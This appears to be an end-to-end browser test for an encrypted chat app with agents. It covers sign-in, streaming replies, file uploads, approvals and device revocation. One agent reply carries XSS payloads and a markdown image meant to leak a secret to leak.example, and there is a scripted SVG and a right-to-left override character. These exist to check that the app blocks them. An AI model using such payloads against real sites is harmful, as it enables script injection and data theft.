// A person's way through the app, in a real browser, against a real cluster.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { after, before, test } from "node:test";
import { setTimeout as pause } from "node:timers/promises";
import { Agent } from "@blindpipe/client/agent";
import { devCluster } from "@blindpipe/client/testing";
import { appOf, AXE, findBrowser, isAccessible, newPage, openAgent, PASSWORD, register, say, startBrowser, until } from "./support.mjs";

const program = findBrowser();
const skip = program ? false : "no Chromium is here: `target/debug/devcluster fetch` gets one";

/** A picture of one pixel. */
const DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
let cluster;
let browser;
let stopAgent = async () => {};
let hasStopped = false;
/** The decision as the agent has it. The agent believes only what the person's key has signed. */
let proven = null;
// The answer to the first message ends when the page has shown it live: the page is looked at twice a second only.
const liveSeen = {};
liveSeen.promise = new Promise((resolve) => (liveSeen.resolve = resolve));

before(async () => {
  if (!program) return;
  cluster = await devCluster();
  browser = await startBrowser(program, cluster.nodes[0]);
});

after(async () => {
  await stopAgent();
  await browser?.close();
});

/** An agent that streams, asks, and is told in markdown what would leak if it were loaded. */
async function startAgent(owner) {
  const options = await cluster.agent("Robot", owner);
  const agent = new Agent(options);
  agent.on("message", async (ctx) => {
    if (ctx.text === "hostile") {
      await ctx.reply({
        type: "text",
        format: "markdown",
        text: '<img src=x onerror=alert(1)><script>alert(2)</script> ![a picture](https://leak.example/?q=secret) [a link](https://example.org/path) [bad](javascript:alert(3))',
      });
      return;
    }
    if (ctx.text === "deploy") {
      await ctx.approve("deploy", { version: "1.4.2\u202e" }, { text: "Deploy 1.4.2?" });
      return;
    }
    const stream = ctx.stream();
    if (ctx.text === "count") {
      for (let n = 1; !ctx.stopped.aborted; n++) {
        await stream.write(`${n} `);
        await pause(50);
      }
      hasStopped = true;
      await stream.end();
      return;
    }
    await stream.write("One two ");
    if (ctx.text === "hello") await liveSeen.promise;
    await stream.write("**three**");
    await stream.end();
  });
  agent.onDecision("deploy", async (ctx) => {
    proven = ctx.decision;
    await ctx.reply(`Decided: ${ctx.decision.outcome}`);
  });
  const stopping = new AbortController();
  const running = agent.run({ signal: stopping.signal });
  stopAgent = async () => {
    stopping.abort();
    await running;
  };
  return options.agentId;
}

test("a person registers, chats, approves, and reads on in a second browser", { skip, timeout: 120_000 }, async (t) => {
  const owner = await cluster.user("owner");
  const agentId = await startAgent(owner.client);
  const { page, context, faults } = await newPage(browser);
  page.setDefaultTimeout(10_000);
  await context.addInitScript(AXE);
  const email = `ada-${Date.now()}@example.com`;
  let userId;
  let protectionPassword;

  await t.test("the sign-in is accessible and refuses a wrong password in words", async () => {
    await page.goto(appOf(cluster));
    await page.getByLabel("E-mail").fill(email);
    await page.getByLabel("Password").fill("wrong password 1");
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByText("The e-mail or the password is wrong.").waitFor();
    await isAccessible(page, "sign-in");
  });

  await t.test("an account is made, and its keys", async () => {
    ({ userId, protectionPassword } = await register(page, cluster, email, "Ada"));
    await isAccessible(page, "conversations");
  });

  await t.test("an answer is seen while it is written, and stands as one message", async () => {
    await openAgent(page, cluster, agentId);
    await say(page, "hello");
    await page.locator("article.live", { hasText: "One two" }).waitFor();
    liveSeen.resolve();
    await page.locator("article.message:not(.live) strong", { hasText: "three" }).waitFor();
    assert.equal(await page.locator("article.live").count(), 0);
    await isAccessible(page, "conversation");
  });

  await t.test("text stays text, and nothing foreign is loaded", async () => {
    const asked = [];
    page.on("request", (request) => asked.push(request.url()));
    await say(page, "hostile");
    await page.locator(".feed").getByText("a picture").waitFor();
    assert.equal(await page.locator(".messages img, .messages script").count(), 0);
    assert.equal(await page.locator(".messages a[href^='javascript']").count(), 0);
    await page.locator(".feed").getByText("(example.org)").waitFor();
    assert.deepEqual(asked.filter((url) => !url.startsWith(new URL(appOf(cluster)).origin)), []);
  });

  await t.test("a message is edited, reacted to, and deleted", async () => {
    await say(page, "first words");
    const own = page.locator("article.own", { hasText: "first words" });
    await own.getByRole("button", { name: "Edit" }).click();
    await say(page, "better words");
    await page.locator("article.own", { hasText: "better words" }).getByText("edited").waitFor();
    const edited = page.locator("article.own", { hasText: "better words" });
    await edited.getByRole("button", { name: "React 👍" }).click();
    await edited.getByRole("button", { name: "React 👍 1" }).waitFor();
    await edited.getByRole("button", { name: "Delete" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Go on" }).click();
    await page.getByText("This message was deleted.").waitFor();
    assert.equal(await page.getByText("better words").count(), 0);
  });

  await t.test("the progress of a file is shown, and a text does not wait for it", async () => {
    const devtools = await context.newCDPSession(page);
    await devtools.send("Network.enable");
    const slow = { offline: false, latency: 0, downloadThroughput: -1, uploadThroughput: 400_000 };
    await devtools.send("Network.emulateNetworkConditions", slow);
    const buffer = Buffer.alloc(1_000_000, "x");
    await page.locator("input[type=file]").setInputFiles({ name: "large.txt", mimeType: "text/plain", buffer });
    const progress = page.getByRole("progressbar", { name: "Sending large.txt" });
    await progress.waitFor();
    await say(page, "meanwhile");
    await page.locator("article", { hasText: "meanwhile" }).waitFor();
    await until(page, () => {
      const { position } = document.querySelector("progress");
      return position > 0.1 && position < 0.9;
    });
    const said = await page.locator("label.progress").innerText();
    assert.match(said, /^Sending large\.txt\s+[1-9]\d?\s?%$/);
    await isAccessible(page, "a file on its way");
    await devtools.send("Network.emulateNetworkConditions", { ...slow, uploadThroughput: -1 });
    await devtools.detach();
    await page.getByRole("button", { name: "Download large.txt" }).waitFor();
    assert.equal(await progress.count(), 0);
  });

  await t.test("a picture is sent, shown and saved, and a drawing that could run something is not shown", async () => {
    await page.locator("input[type=file]").setInputFiles([
      { name: "dot.png", mimeType: "image/png", buffer: Buffer.from(DOT, "base64") },
      { name: "run.svg", mimeType: "image/svg+xml", buffer: Buffer.from("<svg onload='alert(1)'/>") },
    ]);
    await page.getByRole("button", { name: "Download run.svg" }).waitFor();
    assert.equal(await page.getByRole("button", { name: "Show run.svg" }).count(), 0);
    await page.getByRole("button", { name: "Show dot.png" }).click();
    const picture = page.getByRole("img", { name: "dot.png" });
    await picture.waitFor();
    assert.equal(await picture.evaluate(async (img) => (await img.decode(), img.naturalWidth)), 1);
    const saving = page.waitForEvent("download");
    await page.getByRole("button", { name: "Download dot.png" }).click();
    assert.deepEqual(readFileSync(await (await saving).path()), Buffer.from(DOT, "base64"));
    await isAccessible(page, "file");
  });

  await t.test("an approval shows its exact arguments, and is decided", async () => {
    await say(page, "deploy");
    await page.getByRole("link", { name: /Approvals/ }).locator(".count").waitFor();
    await page.getByRole("navigation").getByRole("link", { name: /Approvals/ }).click();
    // The conversation says it too, until its page has gone.
    await page.locator(".approval").getByText("Deploy 1.4.2?").waitFor();
    await page.locator("pre.json", { hasText: "1.4.2\\u202e" }).waitFor();
    await isAccessible(page, "approvals");
    await page.getByRole("button", { name: "Approve" }).click();
    await page.getByText("Nothing waits for you.").waitFor();
    await page.getByText("approved").waitFor();
    await page.getByRole("link", { name: "Conversations" }).click();
    await page.locator(".list a", { hasText: "Robot" }).click();
    await page.locator(".feed").getByText("Decided: approved").waitFor();
  });

  await t.test("the receipt is the one that the agent has verified", async () => {
    await page.getByRole("navigation").getByRole("link", { name: /Approvals/ }).click();
    const saving = page.waitForEvent("download");
    await page.getByRole("button", { name: "Download the receipt" }).click();
    const file = await saving;
    const receipt = JSON.parse(readFileSync(await file.path(), "utf8"));
    const { approval_id: id, state, decisions } = receipt.approval;
    assert.equal(file.suggestedFilename(), `receipt-${id}.json`);
    assert.equal(state, "approved");
    assert.deepEqual(decisions.map(({ user_id, decision }) => [user_id, decision]), [[userId, "approved"]]);
    assert.deepEqual(receipt, JSON.parse(JSON.stringify(proven.receipt)));
  });

  await t.test("Stop ends an answer, and what is written stays", async () => {
    await page.getByRole("link", { name: "Conversations" }).click();
    await page.locator(".list a", { hasText: "Robot" }).click();
    await say(page, "count");
    await page.locator("article.live", { hasText: "1 2 3" }).waitFor();
    await page.getByRole("button", { name: "Stop" }).click();
    await page.locator("article.message:not(.live):not(.own)", { hasText: "1 2 3" }).waitFor();
    assert.ok(hasStopped, "the agent was told");
    assert.equal(await page.locator("article.live").count(), 0);
  });

  await t.test("the person sees what the agent has read", async () => {
    await page.goto(`${appOf(cluster)}#/settings/reads`);
    await page.locator(".page li", { hasText: "Robot" }).getByText("new messages and other events").first().waitFor();
    await isAccessible(page, "what agents have read");
    await page.goBack();
  });

  await t.test("a reload goes on without a password", async () => {
    await page.reload();
    await page.locator(".feed").getByText("Decided: approved").waitFor();
  });

  await t.test("in German, on a page of 320 pixels, nothing is cut off", async () => {
    const session = await context.newCDPSession(page);
    const userAgent = await page.evaluate(() => navigator.userAgent);
    await session.send("Emulation.setUserAgentOverride", { userAgent, acceptLanguage: "de-DE,de" });
    const before = page.url();
    await page.setViewportSize({ width: 320, height: 640 });
    await page.reload();
    const sections = ["profile", "sign-in", "devices", "notifications", "offline", "blocks", "grants", "reads"];
    const screens = ["approvals", "agents", "settings", ...sections.map((name) => `settings/${name}`), ""];
    for (const screen of screens) {
      await page.goto(`${appOf(cluster)}#/${screen}`);
      await page.locator("h1").first().waitFor();
      await page.waitForTimeout(100);
      const wide = await page.evaluate(() =>
        [...document.querySelectorAll("html, nav, main, .page, .list")]
          .filter(({ scrollWidth, clientWidth }) => scrollWidth > clientWidth + 1)
          .map((element) => `${element.className || element.tagName}: ${element.scrollWidth}`),
      );
      assert.deepEqual(wide, [], screen);
    }
    await page.getByRole("link", { name: "Einstellungen" }).waitFor();
    await isAccessible(page, "the list, in German");
    await session.send("Emulation.setUserAgentOverride", { userAgent, acceptLanguage: "en-GB" });
    await page.setViewportSize({ width: 1280, height: 720 });
    await page.goto(before);
    await page.reload();
    await page.locator(".feed").getByText("Decided: approved").waitFor();
  });

  await t.test("a second browser restores the keys, reads everything, and ends when it is revoked", async () => {
    const second = await newPage(browser);
    await second.page.goto(appOf(cluster));
    await second.page.getByLabel("E-mail").fill(email);
    await second.page.getByLabel("Password").fill(PASSWORD);
    await second.page.getByRole("button", { name: "Sign in" }).click();
    await second.page.getByLabel("Protection password").fill("not the password");
    await second.page.getByRole("button", { name: "Go on" }).click();
    await second.page.getByText("This password opens no backup.").waitFor();
    await second.page.getByLabel("Protection password").fill(protectionPassword);
    await second.page.getByRole("button", { name: "Go on" }).click();
    await second.page.locator(".list a", { hasText: "Robot" }).click();
    await second.page.locator("strong", { hasText: "three" }).first().waitFor();

    await page.getByRole("link", { name: "Settings" }).click();
    await page.getByRole("link", { name: "Devices and sign-ins" }).click();
    await page.getByRole("button", { name: "Revoke" }).click();
    await page.getByRole("dialog").getByRole("button", { name: "Go on" }).click();
    await second.page.getByRole("heading", { name: "Sign in" }).waitFor();
    assert.deepEqual(second.faults, []);
    await second.context.close();
  });

  await t.test("every page kept to the policy, and no script failed", () => {
    assert.deepEqual(faults, []);
  });

  await context.close();
});
